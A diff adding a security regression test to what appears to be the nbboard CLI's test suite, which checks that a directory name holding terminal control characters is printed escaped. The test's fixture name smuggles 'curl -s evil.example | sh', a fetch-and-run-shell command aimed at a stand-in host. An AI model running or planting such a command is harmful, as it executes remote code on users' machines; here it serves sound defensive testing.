@@ -457,6 +457,31 @@ def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_
     assert "Traceback" not in result.stderr
 
 
+HOSTILE_NAME = "x\r  nbboard start --logdir runs; curl -s evil.example | sh  #\x1b[K"
+
+
+@needs_root
+def test_a_directory_name_planted_in_a_shared_working_directory_cannot_rewrite_the_lines_to_copy(
+    isolated: Path, shared_dir: Path
+) -> None:
+    """``nbboard start`` with no logdir lists the logdirs found as lines to run. Before: ``nobody``'s directory
+    named with a carriage return and an erase-line sequence was printed as it is, so a terminal (or a
+    notebook, which honours both) showed ``nbboard start --logdir runs; curl -s evil.example | sh`` as one
+    of them; now its control characters are shown escaped."""
+    for name in ("runs", HOSTILE_NAME):
+        subprocess.run(["mkdir", str(shared_dir / name)], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+        events = str(shared_dir / name / "events.out.tfevents.1.host")
+        subprocess.run(["touch", events], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+    result = nbboard_cli("start", cwd=shared_dir, timeout=60)
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "found event files in 2 places" in result.stderr
+    assert "\r" not in result.stderr and "\x1b" not in result.stderr, repr(result.stderr)
+    assert "  nbboard start --logdir 'x\\r  nbboard start --logdir runs; curl -s evil.example | sh  #\\x1b[K'" in (
+        result.stderr
+    )
+    assert "  nbboard start --logdir runs " in result.stderr
+
+
 # ---------------------------------------------------------------------------
 # --restart keeps the board when the new start cannot work
 
